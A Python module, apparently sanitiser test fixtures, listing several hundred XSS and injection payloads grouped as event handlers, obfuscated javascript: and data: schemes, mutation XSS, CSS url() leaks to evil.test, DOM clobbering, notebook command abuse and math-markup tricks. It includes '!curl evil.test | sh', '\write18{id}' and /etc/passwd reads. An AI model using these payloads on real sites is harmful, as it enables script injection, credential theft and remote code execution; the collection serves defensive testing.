"""More hostile answers, after the ideas of published lists of ways around sanitisers.

Sources of ideas: OWASP's *XSS Filter Evasion Cheat Sheet*, Cure53's *HTML5 Security Cheatsheet* and the
tests of DOMPurify, PortSwigger's *XSS cheat sheet*, and reports of script in the outputs of notebooks
(nbconvert GHSA-9jmq-rx5f-8jwq, JupyterLab GHSA-9q39-rmj3-p4r2). Every answer is
written here anew. As in `hostile`, script calls `alert` and what is loaded lies below `evil.test`.
"""

from __future__ import annotations

_X = "alert(1)"
_S = "https://evil.test"

_EVENTS = {
    "abort": f"<video src=x onabort={_X} onloadstart={_X}>",
    "animation": f"<style>@keyframes x{{}}</style><xss style='animation-name:x' onanimationstart={_X}>",
    "animation end": f"<b style='animation:x 1ms' onanimationend={_X} onanimationiteration={_X}>x</b>",
    "transition": f"<a style='transition:color 1s;color:red' ontransitionend={_X} ontransitionrun={_X}>x",
    "before copy": f"<div contenteditable onbeforecopy={_X} onbeforecut={_X} onbeforepaste={_X}>x</div>",
    "before input": f"<input onbeforeinput={_X} oninput={_X} oninvalid={_X} autofocus>",
    "before toggle": f"<div popover onbeforetoggle={_X} ontoggle={_X} id=p>x</div><button popovertarget=p>y",
    "before match": f"<p hidden=until-found onbeforematch={_X}>x</p>",
    "focus in": f"<a id=x tabindex=1 onfocusin={_X} onfocusout={_X}>x</a>",
    "hash change": f"<body onhashchange={_X} onpopstate={_X} onpageshow={_X} onresize={_X}>",
    "message": f"<body onmessage={_X} onstorage={_X} onunhandledrejection={_X}>",
    "pointer": f"<p onpointerenter={_X} onpointerrawupdate={_X} onpointermove={_X}>x</p>",
    "scroll": f"<div onscroll={_X} onscrollend={_X} style='overflow:auto;height:1px'><br><br></div>",
    "scroll snap": f"<p onscrollsnapchange={_X} onscrollsnapchanging={_X}>x</p>",
    "selection": f"<p onselectstart={_X} onselectionchange={_X}>x</p>",
    "wheel": f"<p onwheel={_X} onmousewheel={_X}>x</p>",
    "content visibility": f"<p style=content-visibility:auto oncontentvisibilityautostatechange={_X}>x</p>",
    "slot": f"<slot onslotchange={_X}>x</slot>",
    "security policy": f"<p onsecuritypolicyviolation={_X}>x</p>",
    "web kit": f"<b onwebkitanimationstart={_X} onwebkittransitionend={_X} onwebkitfullscreenchange={_X}>x",
    "cue change": f"<track default oncuechange={_X} src='data:text/vtt,WEBVTT'>",
    "repeat event": f"<svg><animate onbegin={_X} onend={_X} onrepeat={_X} attributeName=x dur=1s>",
    "set handler": f"<svg><set attributeName=onmouseover to={_X}>",
    "event without an equals sign": f"<img src=x onerror {_X}>",
    "event twice": f"<img src=x onerror= onerror={_X}>",
    "event behind a slash": f"<img src=x/ onerror={_X}//>",
    "event behind quotes": f"<img src='x'onerror='{_X}'>",
    "event behind a backtick": f"<img src=`x`onerror={_X}>",
    "event in full width": f"<img src=x ｏnerror={_X}>",
    "event with a null": f"<img src=x on\0error={_X}>",
}

_SCHEMES = {
    "comment in the scheme": "[x](java/**/script:alert(1))",
    "line separators": "[x](java\u2028script:alert(1)) [y](java\u2029script:alert(1))",
    "zero width space": "[x](java\u200bscript:alert(1)) [y](\ufeffjavascript:alert(1))",
    "soft hyphen": "[x](java\xadscript:alert(1))",
    "full width scheme": "[x](ｊavascript:alert(1)) [y](javascript：alert(1))",
    "long s": "[x](javaſcript:alert(1)) [y](JavaScrıpt:alert(1))",
    "upper case": "[x](JAVASCRIPT:alert(1)) [y](JaVaScRiPt:alert(1))",
    "vertical tab": "[x](\x0bjavascript:alert(1)) [y](java\x0cscript:alert(1))",
    "entities without ends": "[x](&#0000106&#0000097&#0000118&#0000097&#0000115cript:alert(1))",
    "named entities": "[x](java&NewLine;script&colon;alert&lpar;1&rpar;)",
    "entities twice": "[x](&amp;#106;avascript:alert(1))",
    "feed": "[x](feed:javascript:alert(1)) [y](feed:data:text/html,<script>alert(1)</script>)",
    "live script": "[x](livescript:alert(1)) [y](mocha:alert(1)) [z](jscript:alert(1))",
    "about": "[x](about:blank#alert(1)) [y](about:srcdoc)",
    "file system": "[x](filesystem:https://evil.test/t/x) [y](chrome://settings)",
    "intent": "[x](intent://x#Intent;scheme=http;end) [y](market://x)",
    "Microsoft": "[x](ms-officecmd:{}) [y](search-ms:query=x) [z](ms-msdt:/id)",
    "code editors": "[x](vscode://file/etc/passwd) [y](cursor://x) [z](jetbrains://x)",
    "web socket": "[x](ws://evil.test) [y](wss://evil.test)",
    "telephone": "[x](tel:*21*1#) [y](sms:1?body=x) [z](callto:1)",
    "svg link as data": "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data without a type": "[x](data:,alert(1)) [y](data:;base64,YQ==)",
    "data in capitals": "[x](DATA:text/html,<script>alert(1)</script>)",
    "xml as data": "[x](data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>)",
    "scheme in the reference's label": "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
    "three slashes": "[x](https:///evil.test) [y](https:\\\\evil.test) [z](///evil.test)",
    "tab between the slashes": "[x](/\t/evil.test) [y](/\\evil.test)",
    "IPv4 as a number": "[https://ok.test](http://2130706433/) [y](http://0x7f.1/)",
    "host in brackets": "[x](https://[::ffff:127.0.0.1]:8888/api/kernels)",
    "server of the notebook": "[x](http://localhost:8888/api/shutdown) [y](http://127.0.0.1:8888/lab?reset)",
}

_MUTATIONS = {
    "table in math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_X}&gt;'>",
    "form in a form": f"<form><div></form><form><svg><style><a title='</style><img src onerror={_X}>'></form>",
    "svg and a paragraph": f"<svg></p><style><a id='</style><img src=1 onerror={_X}>'>",
    "svg title": f"<svg><title><style><img src='</style><img src=x onerror={_X}>'></title></svg>",
    "svg desc": f"<svg><desc><noscript><img title='</noscript><img src=x onerror={_X}>'></desc></svg>",
    "foreign object and style": f"<svg><foreignObject><math><mi><style><img src='</style><img src=x onerror={_X}>'>",
    "annotation without a kind": f"<math><annotation-xml><style><img title='</style><img src=x onerror={_X}>'>",
    "annotation in capitals": f"<math><annotation-xml encoding=TEXT/HTML><style><img title='</style><img src=x onerror={_X}>'>",
    "comment in math": f"<math><mi><!--<style>--><img title='--&gt;<img src=x onerror={_X}>'>",
    "CDATA in svg": f"<svg><![CDATA[><img src=x onerror={_X}>]]></svg>",
    "CDATA in math": f"<math><![CDATA[</math><img src=x onerror={_X}>]]>",
    "select in a template": f"<template><select><style></select><img src=x onerror={_X}></style></template>",
    "no frames": f"<noframes><style></noframes><img src=x onerror={_X}></style>",
    "no embed": f"<noembed><p title='</noembed><img src=x onerror={_X}>'>",
    "iframe that holds text": f"<iframe><p title='</iframe><img src=x onerror={_X}>'></iframe>",
    "listing": f"<listing>&lt;img src=x onerror={_X}&gt;</listing>",
    "nested headings": "<h1>" * 520 + f"<svg><style></h1><img src=x onerror={_X}>",
    "nested formatting": "<b><i><u>" * 40 + f"<a><table><a><img src=x onerror={_X}></table>",
    "caption": f"<table><caption><svg><style></caption><img src=x onerror={_X}></style></svg></table>",
    "column group": f"<table><colgroup><img src=x onerror={_X}></colgroup></table>",
    "frame and body": f"<html><body><frameset><img src=x onerror={_X}></frameset><script>{_X}</script>",
    "image as a tag": f"<image src=x onerror={_X}> <image href={_S}/p.png>",
    "ruby": f"<ruby><rb><style></rb><img src=x onerror={_X}></style></ruby>",
    "declarative shadow root": f"<div><template shadowrootmode=open><img src=x onerror={_X}></template></div>",
    "is attribute": f"<button is=x-y onclick={_X} autofocus onfocus={_X}>x</button>",
    "xlink": f"<svg xmlns:xlink=http://www.w3.org/1999/xlink><a xlink:href=javascript:{_X}><text y=9>x</a></svg>",
    "xml base": f"<math xml:base=javascript:{_X}//><mi href=#>x</mi></math>",
    "comment with a bang": f"<!--!> <img src=x onerror={_X}> -->",
    "comment without an end": f"<!-- <img src=x onerror={_X}>",
    "bogus comment": f"</ ><img src=x onerror={_X}> <?><img src=x onerror={_X}>",
    "attribute without a name": f"<img =x onerror={_X} src=x>",
}

_STYLES = {
    "import in a string": f"<style>@import '{_S}/x.css' layer(a);@font-face{{font-family:x;src:url({_S}/f)}}</style>",
    "attribute that leaks": f"<style>input[value^=a]{{background:url({_S}/a)}}</style><input value=abc>",
    "escaped url": f'<p style="background:\\75\\72\\6c({_S}/b)">x</p>',
    "image set": f'<p style="background:image-set(url({_S}/b) 1x);cursor:url({_S}/c),auto">x</p>',
    "list image": f'<ul style="list-style-image:url({_S}/b)"><li>x</ul>',
    "content": f'<p style="content:url({_S}/b);mask:url({_S}/m);filter:url({_S}/f#x)">x</p>',
    "expression": f'<p style="width:expression({_X});-moz-binding:url({_S}/x#y);behavior:url(x.htc)">x</p>',
    "variables": f'<p style="--x:url({_S}/b);background:var(--x)">x</p>',
    "cover": "<p style='position:fixed;inset:0;z-index:99999;opacity:0'><a href=https://evil.test>x</a></p>",
    "svg paint": f"<svg><rect fill=url({_S}/x#y) style='fill:url({_S}/x#y)'></svg>",
}

_CLOBBERED = {
    "document names": "<img name=cookie><form name=body><input name=innerHTML></form>",
    "collections": "<a id=jupyterapp><a id=jupyterapp name=commands href=javascript:alert(1)>",
    "base names": "<form id=document><input name=createElement></form><img id=getElementById>",
    "page configuration": '<script id="jupyter-config-data" type="application/json">{"baseUrl":"//evil.test"}</script>',
    "prototype": "<a name=__proto__ id=constructor>x</a>",
    "anchors of headings": "# constructor\n\n# __proto__\n\n# jupyter-config-data",
}

_NOTEBOOK = {
    "command linker in a link": '<a data-commandlinker-command="apputils:run-all-enabled">x</a>',
    "command linker by class": '<button class="jp-Button jp-mod-accept" data-command="x">OK</button>',
    "widget view": '<div class="jupyter-widgets" data-mime-type="application/vnd.jupyter.widget-view+json">x</div>',
    "widget state": '<script type="application/vnd.jupyter.widget-state+json">{"state":{}}</script>',
    "require": "<script>require(['//evil.test/x.js'])</script>",
    "IPython notebook": "<script>IPython.notebook.kernel.execute('import os')</script>",
    "line magic": "`%load https://evil.test/x.py`\n\n!curl evil.test | sh\n\n%%javascript\nalert(1)",
    "mermaid": '```mermaid\ngraph TD;A["<img src=x onerror=alert(1)>"]-->B;click A "javascript:alert(1)"\n```',
    "vega": '```vega-lite\n{"data":{"url":"https://evil.test/d"},"mark":"bar"}\n```',
    "html fence": "```{=html}\n<img src=x onerror=alert(1)>\n```\n\n~~~raw html\n<script>alert(1)</script>\n~~~",
    "directive": ":::{iframe} https://evil.test\n:::\n\n```{raw} html\n<script>alert(1)</script>\n```",
    "role": "{raw:html}`<script>alert(1)</script>` {button}`x<javascript:alert(1)>`",
    "front matter": "---\nredirect_to: https://evil.test\n---\n\nx",
    "liquid": "{% include_relative ../../etc/passwd %} {{ site.github.private_key }}",
}

_MORE_FORMULAS = {
    "html class": "\\(\\class{zenmux-stop}{x} \\htmlClass{jp-x}{y} \\htmlId{a}{z}\\)",
    "html data": f"\\(\\htmlData{{x=y}}{{z}} \\htmlStyle{{background:url({_S})}}{{w}}\\)",
    "href of KaTeX": f"$\\href{{jAvAsCrIpT:{_X}}}{{x}}_1$ $\\url{{data:text/html,x}}_1$",
    "percent": f"\\(x % </span><img src=x onerror={_X}>\n y\\)",
    "verb": f"\\(\\verb|<img src=x onerror={_X}>|\\)",
    "input": "\\(\\input{/etc/passwd} \\openin5=x \\read5 to\\y \\write18{id}\\)",
    "csname": "\\(\\csname href\\endcsname{javascript:alert(1)}{x}\\)",
    "character code": "\\(\\char`< \\char60 img src=x onerror=alert(1)>\\)",
    "catcode": "\\(\\catcode`\\<=13 \\def<{\\href}\\)",
    "global macro": "$\\gdef\\sin{\\href{javascript:alert(1)}{sin}}$ then $\\sin x$",
    "expansion": "$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}_1$",
    "tooltip": f"\\(\\mathtip{{x}}{{<img src=x onerror={_X}>}} \\texttip{{y}}{{z}}\\)",
    "toggle": f"\\(\\toggle{{x}}{{\\href{{javascript:{_X}}}{{y}}}}\\endtoggle\\)",
    "enclose": f'\\(\\enclose{{circle" onclick="{_X}}}[mathcolor="red" href="javascript:{_X}"]{{x}}\\)',
    "definition of an operator": f"\\(\\DeclareMathOperator{{\\x}}{{<script>{_X}</script>}} \\x\\)",
    "image": f"\\(\\image{{{_S}/p.png}} \\graphicspath{{{{{_S}/}}}}\\)",
    "script in a label": "\\begin{equation}\\label{<script>alert(1)</script>}x\\end{equation}",
}

LISTED: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, group in {
        "event": _EVENTS,
        "scheme": _SCHEMES,
        "mutation": _MUTATIONS,
        "style": _STYLES,
        "clobbering": _CLOBBERED,
        "notebook": _NOTEBOOK,
        "formula": _MORE_FORMULAS,
    }.items()
    for name, text in group.items()
}
